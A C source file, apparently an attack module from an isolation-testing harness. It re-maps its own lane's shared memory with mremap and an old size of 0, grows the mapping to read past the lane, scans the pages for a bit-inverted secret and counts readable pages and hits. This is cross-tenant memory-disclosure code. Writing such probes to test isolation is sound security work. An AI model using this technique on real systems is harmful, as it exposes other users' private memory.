/*
 * grow_lane.c - grows its mappings over the files' rest, to reach what lies behind its own lane; against memory of others in the same
 * files. A lease has files of its own: how many pages more could be read, and in how many of them lies what is looked for.
 */
#include <sys/mman.h>

#include "lane_walk.h"

#define PAGES 65536

/* What is looked for comes with every bit turned, so that it is not found where it was given. */
static int holds(const uint8_t *page, const uint8_t *turned, size_t size)
{
	for (size_t i = 0; i + size <= ADV_PAGE; i++) {
		size_t same = 0;
		while (same < size && (page[i + same] ^ turned[same]) == 0xff)
			same++;
		if (same == size)
			return 1;
	}
	return 0;
}

static void look(uint8_t *area, const uint8_t *turned, size_t size, long *pages, long *hits)
{
	uint8_t *grown = mremap(area, 0, (size_t)PAGES * ADV_PAGE, MREMAP_MAYMOVE);
	/* A size of 0 maps shared memory a second time, and leaves the first where the worker needs it. */
	if (grown == MAP_FAILED)
		return;
	/* Beyond the file's end the kernel says EFAULT: as good as a fault. */
	for (uint32_t i = 1; i < PAGES && readable((uintptr_t)grown + i * ADV_PAGE); i++) {
		*hits += holds(grown + (size_t)i * ADV_PAGE, turned, size);
		(*pages)++;
	}
}

ATTACK
{
	struct lane_found l;
	long pages = 0, hits = 0;
	uint8_t turned[64];
	if (in_size < sizeof(turned))
		return saw(out, 0, NO_SUCH_FORM);
	memcpy(turned, in, sizeof(turned));
	find_lane(in, &l);
	look(l.cpl, turned, sizeof(turned), &pages, &hits);
	look(l.req, turned, sizeof(turned), &pages, &hits);
	look(l.inputs, turned, sizeof(turned), &pages, &hits);
	uint32_t size = saw(out, 0, pages);
	return saw(out, size, hits);
}
